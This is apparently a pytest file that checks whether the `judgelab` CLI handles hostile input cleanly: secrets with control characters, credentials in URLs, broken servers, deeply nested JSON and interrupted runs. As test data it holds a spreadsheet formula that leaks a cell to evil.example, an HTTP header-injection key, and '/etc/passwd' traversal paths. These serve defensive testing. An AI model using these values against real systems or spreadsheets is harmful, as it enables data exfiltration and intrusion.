"""Hostile input, round 2, as a new user or a hostile server tries it through the `judgelab` command: an API key with a
control character, a password in the base URL, servers that answer 500, junk or nothing, bad option values, a JSONL
line nested 100,000 deep, long and non-Latin names, a formula as a model name, another server behind the same model
name, Ctrl-C and SIGTERM in the middle of a run. Every outcome is a clean result or one `error:` line with its exit
status (2 bad input, nothing ran; 1 a run failed; 130 interrupted), never a traceback, never a secret; each test failed
before its fix. The last test walks every option of every subcommand with bad values."""

import argparse, json, os, signal, socket, subprocess, time
from pathlib import Path
import pandas as pd
import pytest
from tests.conftest import BIN, ROOT, run_cli, refused_run, wait_while_running

KEY = 'sk-proj-Qx7vLm2RtY9wZc4NpK8sD'
PASSWORD = 'Hunter2Secret'
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'

def score(req):
    "A chat-completions server that rates everything 2."
    return 200, {}, dict(choices=[dict(index=0, message=dict(role='assistant', content='Fine.\nScore: 2'), finish_reason='stop')],
                         usage=dict(prompt_tokens=9, completion_tokens=3))

def model_list(req): return 200, {}, dict(object='list', data=[dict(id='my-judge', object='model', owned_by='me')])

@pytest.fixture
def server(http_stub): return http_stub({'/v1/chat/completions': score, '/v1/models': model_list})

@pytest.fixture
def sandbox(tmp_path):
    return {'JUDGELAB_OUTPUTS': str(tmp_path/'outputs'), 'JUDGELAB_RUNS': str(tmp_path/'runs'), 'OPENAI_API_KEY': KEY}

def judge(url, env, *extra, model='my-judge', n_items='3'):
    return run_cli('judge', '--dataset', 'topical_chat', '--method', 'direct', '--dims', 'coherence', '--n-items', n_items, '--backend', 'openai',
                   '--base-url', url, '--model', model, '--quiet', '--no-audit', '--max-retries', '0', *extra, env=env)

def chats(srv)->int: return sum(r.path.endswith('/chat/completions') for r in srv.seen)

def clean(r, *secrets):
    "No traceback and no piece (8 characters) of any secret in what the command printed."
    text = r.stdout + r.stderr
    assert 'Traceback' not in r.stderr, r.stderr[-3000:]
    for s in secrets: assert not any(s[i:i + 8] in text for i in range(len(s) - 7)), (s, text[-3000:])

def closed_port()->int:
    with socket.socket() as s:
        s.bind(('127.0.0.1', 0))
        return s.getsockname()[1]

# --- rows 1 and 2: secrets ----------------------------------------------------------------------------------------

@pytest.mark.parametrize('key', [KEY + '\r', KEY + '\r\nX-Evil: 1'])
def test_a_key_with_a_control_character_is_refused_by_name_never_printed(server, sandbox, key):
    # before: ValueError: Invalid header value b'Bearer sk-...\r', the whole key printed twice in the traceback
    r = judge(f'{server.url}/v1', {**sandbox, 'OPENAI_API_KEY': key})
    refused_run(r, '$OPENAI_API_KEY holds a control character')
    clean(r, KEY)
    assert server.seen == []

@pytest.mark.parametrize('debug', [(), ('--debug',)])
def test_a_password_in_the_base_url_is_refused_and_never_printed(server, sandbox, debug):
    # before: 6 attempts, then a traceback that printed the password twice
    url = server.url.replace('http://', f'http://user:{PASSWORD}@') + '/v1'
    r = run_cli(*debug, 'judge', '--dataset', 'topical_chat', '--method', 'direct', '--n-items', '2', '--backend', 'openai', '--base-url', url,
                '--model', 'my-judge', '--no-audit', env=sandbox)
    refused_run(r, 'carries credentials')
    clean(r, PASSWORD, KEY)
    assert server.seen == []

# --- row 4: servers that cannot answer ------------------------------------------------------------------------------

BROKEN = {
    '500': lambda req: (500, {}, dict(error=dict(message='boom'))),
    'invalid JSON': lambda req: (200, {}, b'{"data": [oops'),
    'not UTF-8': lambda req: (200, {}, b'\xff\xfe\x00garbage'),
}

@pytest.mark.parametrize('how', [*BROKEN, 'closed port'])
def test_a_server_that_cannot_answer_stops_the_run_before_the_first_batch(http_stub, server, sandbox, tmp_path, how):
    # before: two chained tracebacks, rc 1, and a stale running.json that made the next run say "did not finish (killed?)"
    if how == 'closed port': url, bad = f'http://127.0.0.1:{closed_port()}/v1', None
    else:
        bad = http_stub({'*': BROKEN[how]})
        url = f'{bad.url}/v1'
    r = judge(url, sandbox)
    refused_run(r, 'nothing ran')
    clean(r, KEY)
    assert len(r.stderr.strip().splitlines()) == 1, r.stderr                     # one line
    assert bad is None or chats(bad) == 0                                      # the model list first: no batch sent
    assert not list((tmp_path/'outputs').rglob('running.json'))
    r = judge(f'{server.url}/v1', sandbox)                                      # the same command against a server that answers
    assert r.returncode == 0 and 'did not finish' not in r.stderr, r.stderr

def test_a_run_that_fails_mid_way_leaves_no_marker_and_says_so_in_one_line(http_stub, sandbox, tmp_path):
    srv = http_stub({'/v1/models': model_list, '/v1/chat/completions': BROKEN['500']})
    r = judge(f'{srv.url}/v1', sandbox)
    assert r.returncode == 1 and r.stderr.startswith('error: ') and 'HTTP 500: boom' in r.stderr, r.stderr
    clean(r, KEY)
    assert not list((tmp_path/'outputs').rglob('running.json'))

# --- rows 3 and 16: replies that are not a sample --------------------------------------------------------------------

def test_a_surrogate_or_an_error_object_in_a_200_fails_its_row_not_the_run(http_stub, sandbox, tmp_path):
    # before: UnicodeEncodeError in cache.put aborted the batch, and again on every rerun; a 200 without choices did too
    n = []
    def chat(req):
        n.append(1)
        if len(n) == 1: return 200, {}, b'{"choices": [{"message": {"role": "assistant", "content": "Score: 3 \\ud800"}, "finish_reason": "stop"}]}'
        if len(n) == 2: return 200, {}, dict(error=dict(message='overloaded'))
        return score(req)
    srv = http_stub({'/v1/models': model_list, '/v1/chat/completions': chat})
    r = judge(f'{srv.url}/v1', sandbox, n_items='4')
    assert r.returncode == 0 and '2 of 4 (item, dimension) pairs got a parsed score' in r.stdout and 'Traceback' not in r.stderr, (r.stdout, r.stderr)
    j = pd.read_parquet(next((tmp_path/'outputs'/'judged').rglob('*.parquet')))
    assert j.failure.str.contains('not valid Unicode').sum() == 1 and j.failure.str.contains('an error object: overloaded').sum() == 1, j.failure.tolist()

# --- rows 5, 7, 11, 12: bad values, before anything runs -------------------------------------------------------------

BAD_JUDGE = [(('--option', 'max_tokens=0'), 'max_tokens'), (('--option', 'max_tokens=-5'), 'max_tokens'), (('--option', 'max_tokens=abc'), 'max_tokens'),
             (('--option', 'temperature=1e309'), 'temperature'), (('--seed', '-1'), '--seed must be'), (('--timeout', '0'), '--timeout must be'),
             (('--timeout', 'inf'), '--timeout must be'), (('--max-retries', '99'), '--max-retries'), (('--n-boot', '99999999999999999999'), '--n-boot must be'),
             (('--n-perm', '2000000000'), '--n-perm must be'), (('--model', 'x'*300), 'must be printable text of 1-200 characters')]

@pytest.mark.parametrize('args, says', BAD_JUDGE, ids=[' '.join(a)[:30] for a, _ in BAD_JUDGE])
def test_a_bad_judge_option_is_bad_input_and_nothing_runs(server, sandbox, args, says):
    r = judge(f'{server.url}/v1', sandbox, *args)
    refused_run(r, says)
    assert chats(server) == 0

@pytest.mark.parametrize('url', ['file:///etc/passwd', f'ftp://u:{PASSWORD}@127.0.0.1/', 'http://127.0.0.1:99999999/v1'])
def test_a_base_url_that_is_no_http_server_is_bad_input(sandbox, url):
    r = judge(url, sandbox)
    refused_run(r, 'base_url')
    clean(r, PASSWORD)

def test_a_120000_character_set_value_is_refused(tmp_path, sandbox):
    r = run_cli('sweep', 'configs/embedded.yaml', '--dry-run', '--set', 'model=' + 'x'*120_000, env=sandbox)
    refused_run(r, 'characters, at most 4,096')

# --- rows 6, 7, 15: files and names -------------------------------------------------------------------------------

@pytest.fixture(scope='module')
def items():
    from judgelab.data import load
    return list(load('topical_chat').human_mean().index[:24])

def scores_csv(path, items, dims=('coherence', 'engagingness')):
    pd.DataFrame([dict(item_id=i, dimension=d, score=1 + (k + len(d)) % 3) for k, i in enumerate(items) for d in dims]).to_csv(path, index=False)
    return path

def test_a_jsonl_line_nested_100000_deep_is_a_clear_error(tmp_path, sandbox):
    # before: RecursionError traceback from `judgments import` and `audit`
    f = tmp_path/'deep.jsonl'
    f.write_text('{"item_id": ' + '['*100_000 + ']'*100_000 + ', "dimension": "coherence", "score": 2}\n')
    for cmd in (('judgments', 'import', str(f), '--dataset', 'topical_chat', '--judge', 'j', '--model', 'm'), ('audit', str(f), '--dataset', 'topical_chat')):
        refused_run(run_cli(*cmd, env=sandbox), 'line 1: nested too deep')

def test_long_and_non_latin_names_fit_the_file_system(tmp_path, sandbox, items):
    # before: 80 + 200 characters made a file name over 255 bytes (OSError traceback); 'é' x 150 was "no letter or digit"
    csv = scores_csv(tmp_path/'s.csv', items)
    for judge_name, model in (('j'*80, 'm'*200), ('судья', 'é'*150), ('評価者', 'モデル/3-mini')):
        r = run_cli('judgments', 'import', str(csv), '--dataset', 'topical_chat', '--judge', judge_name, '--model', model, env=sandbox)
        assert r.returncode == 0, r.stderr
        clean(r)
        stored = [p for p in (tmp_path/'outputs').rglob('*.parquet') if p.name.startswith(judge_name + '__')]
        assert len(stored) == 1 and len(stored[0].name.encode()) <= 255 and pd.read_parquet(stored[0]).model.iloc[0] == model, stored

# --- rows 8 and 10: an audit whose model name is a formula, then terminated --------------------------------------------

AUDIT_COUNTS = ('--n-perm', '99', '--n-boot-excess', '20', '--n-boot', '20', '--n-perm-quality', '0', '--n-sim', '0')

def test_a_formula_model_name_is_escaped_in_every_csv_and_sigterm_restores_the_audit(tmp_path, sandbox, items):
    csv = scores_csv(tmp_path/'mine.csv', items)
    r = run_cli('audit', str(csv), '--dataset', 'topical_chat', '--model', HYPERLINK, '--json', *AUDIT_COUNTS, env=sandbox)
    assert r.returncode == 0, r.stderr[-3000:]
    assert json.loads(r.stdout)['model'] == HYPERLINK                            # the name itself, as given
    folder = next((tmp_path/'outputs'/'audits').iterdir())
    cells = [v for f in folder.rglob('*.csv') for v in pd.read_csv(f, dtype=str, keep_default_na=False).to_numpy().ravel()]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells, 'a cell opens as a formula'   # before: 14 CSVs with the raw formula
    before = {p.relative_to(folder): p.read_bytes() for p in folder.rglob('*') if p.is_file()}
    # the same audit again, with other scores (--replace), terminated mid-way: the earlier audit is back in place, whole
    scores_csv(csv, items[::-1])
    p = subprocess.Popen([str(BIN/'judgelab'), 'audit', str(csv), '--dataset', 'topical_chat', '--model', HYPERLINK, '--replace', *AUDIT_COUNTS],
                         cwd=ROOT, env={**os.environ, **sandbox}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    kept = tmp_path/'outputs'/'tmp'/'audits-kept'
    wait_while_running(p, lambda: kept.exists() and any(kept.iterdir()), 120, 0.05, None)     # the earlier audit set aside
    time.sleep(1)
    p.send_signal(signal.SIGTERM)
    out, err = p.communicate(timeout=60)
    assert p.returncode == 130 and 'Traceback' not in err and 'terminated' in err, (p.returncode, err[-3000:])
    after = {q.relative_to(folder): q.read_bytes() for q in folder.rglob('*') if q.is_file()}
    assert after == before                                              # before: only judgments and a manifest were left
    assert not any(kept.iterdir())

# --- row 14: the cache knows which server answered -------------------------------------------------------------------

def test_replies_of_another_server_under_the_same_model_name_are_refused(http_stub, server, sandbox):
    # before: "9 cache hits" from a server on a dead port: a different model served under the same name answered silently
    assert judge(f'{server.url}/v1', sandbox).returncode == 0
    other = http_stub({'/v1/chat/completions': score, '/v1/models': model_list})
    r = judge(f'{other.url}/v1', sandbox)
    refused_run(r, f'were answered by openai {server.url}/v1 (my-judge), not by openai {other.url}/v1 (my-judge)', '--model-id')
    import sqlite3
    with sqlite3.connect(Path(sandbox['JUDGELAB_OUTPUTS'])/'cache'/'generations.sqlite') as db:   # each reply: the server and the model id it reported
        assert {b for (b,) in db.execute('SELECT backend FROM generations')} == {f'openai {server.url}/v1 (my-judge)'}
    assert chats(other) == 0 and not list(Path(sandbox['JUDGELAB_OUTPUTS']).rglob('running.json'))
    r = judge(f'{other.url}/v1', sandbox, '--model-id', 'my-judge')           # the user says they serve the same weights
    assert r.returncode == 0 and chats(other) == 0, r.stderr                   # every reply from the cache
    r = judge(f'{other.url}/v1', sandbox, '--model-id', 'my-judge-v2')        # or that they do not
    assert r.returncode == 0 and chats(other) == 3, r.stderr

# --- Ctrl-C -------------------------------------------------------------------------------------------------------

def test_ctrl_c_says_how_far_it_got_and_leaves_nothing_stale(http_stub, sandbox, tmp_path):
    def slow(req):
        time.sleep(0.5)
        return score(req)
    srv = http_stub({'/v1/models': model_list, '/v1/chat/completions': slow})
    cmd = [str(BIN/'judgelab'), 'judge', '--dataset', 'topical_chat', '--method', 'direct', '--dims', 'coherence', '--n-items', '40', '--backend',
           'openai', '--base-url', f'{srv.url}/v1', '--model', 'my-judge', '--no-audit', '--quiet']
    p = subprocess.Popen(cmd, cwd=ROOT, env={**os.environ, **sandbox}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    wait_while_running(p, lambda: chats(srv) >= 10, 60, 0.05, None)
    p.send_signal(signal.SIGINT)
    out, err = p.communicate(timeout=60)
    assert p.returncode == 130 and 'Traceback' not in err, (p.returncode, err[-3000:])
    assert 'interrupted after' in err and 'were generated and cached' in err and '--resume' in err, err
    assert not list((tmp_path/'outputs').rglob('running.json'))
    sent = chats(srv)
    r = run_cli(*cmd[1:], env=sandbox)
    assert r.returncode == 0 and chats(srv) - sent < 40, r.stderr                # the rerun sends only what was not cached

# --- every option of every subcommand, with bad values -----------------------------------------------------------

BAD_VALUES = ['', '-1', 'abc', '1e309', 'nan', 'x'*300, '../../../etc/passwd', HYPERLINK, f'http://u:{PASSWORD}@127.0.0.1:9/v1']

def _walk_cases(tmp:Path)->list:
    "(argv) for each option of each subcommand taking a value, with each bad value, on a base command that runs nothing."
    from judgelab.cli import parser
    cfg = tmp/'s.yaml'
    cfg.write_text('name: s\nexperiments:\n  a:\n    template: nbs/experiments/data_overview.ipynb\n')
    port = closed_port()
    base = {'audit': ['audit', str(tmp/'missing.csv'), '--dataset', 'summeval'],
            'judge': ['judge', '--dataset', 'topical_chat', '--method', 'direct', '--n-items', '2', '--backend', 'openai', '--base-url',
                      f'http://127.0.0.1:{port}/v1', '--model', 'm', '--no-audit', '--quiet'],
            'data list': ['data', 'list'], 'data fetch': ['data', 'fetch', 'summeval'], 'data verify': ['data', 'verify', 'summeval'],
            'data info': ['data', 'info', 'summeval'], 'judgments list': ['judgments', 'list', 'summeval'],
            'judgments import': ['judgments', 'import', str(tmp/'missing.csv'), '--dataset', 'summeval', '--judge', 'j', '--model', 'm'],
            'sweep': ['sweep', str(cfg), '--only', 'nothing_here'], 'readme': ['readme', '--check']}
    subs = {}
    def walk(p, prefix):
        for act in p._actions:
            if isinstance(act, argparse._SubParsersAction):
                for name, sp in act.choices.items(): walk(sp, f'{prefix} {name}'.strip())
            elif prefix: subs.setdefault(prefix, []).append(act)
    walk(parser(), '')
    cases = []
    for cmd, acts in subs.items():
        for act in acts:
            if not act.option_strings or act.nargs == 0 or act.dest in ('help',): continue
            for v in BAD_VALUES: cases.append(base[cmd] + [act.option_strings[-1], v])
    return cases

def test_every_option_of_every_subcommand_with_bad_values_gives_one_error_line(tmp_path, monkeypatch, capsys):
    from judgelab.cli import main
    monkeypatch.setenv('JUDGELAB_OUTPUTS', str(tmp_path/'outputs'))
    monkeypatch.setenv('JUDGELAB_RUNS', str(tmp_path/'runs'))
    monkeypatch.setenv('OPENAI_API_KEY', KEY)
    cases, bad = _walk_cases(tmp_path), []
    assert len(cases) > 300, len(cases)
    for argv in cases:
        capsys.readouterr()
        try: rc = main(argv)
        except SystemExit as e: rc = e.code          # argparse: its usage line and exit status 2
        out, err = capsys.readouterr()
        text = out + err
        if 'Traceback' in err or rc not in (0, 2) or PASSWORD in text or KEY[3:12] in text or (rc == 2 and 'error' not in err):
            bad.append((argv[:2] + argv[-2:-1] + [argv[-1][:40]], rc, err.strip().splitlines()[-1:] if err.strip() else ''))
    assert not bad, f'{len(bad)} of {len(cases)}:\n' + '\n'.join(map(str, bad[:40]))
    assert not list((tmp_path/'outputs').rglob('running.json'))

def test_a_site_that_cannot_be_written_is_one_error_line(tmp_path):
    # before: a NotADirectoryError traceback (the trial's "error: <path>" and nothing else)
    f = tmp_path/'a_file'
    f.write_text('x')
    r = subprocess.run([str(BIN/'python'), '-m', 'judgelab.site', '--out', str(f), '--no-lib'], capture_output=True, text=True, cwd=ROOT)
    assert r.returncode == 2 and 'Traceback' not in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr[-2000:]
    assert 'cannot write the site: Not a directory' in r.stderr and '--out must name a folder' in r.stderr, r.stderr

def test_a_bare_ctrl_c_says_interrupted(monkeypatch, capsys):
    # a KeyboardInterrupt without a message (Ctrl-C anywhere but in generation) once printed "error: " and nothing else
    from judgelab.run import commands
    def interrupted(a): raise KeyboardInterrupt
    monkeypatch.setitem(commands.COMMANDS, 'readme', interrupted)
    assert commands.run(argparse.Namespace(fn='readme')) == 130
    assert capsys.readouterr().err.strip() == 'error: interrupted (Ctrl-C)'
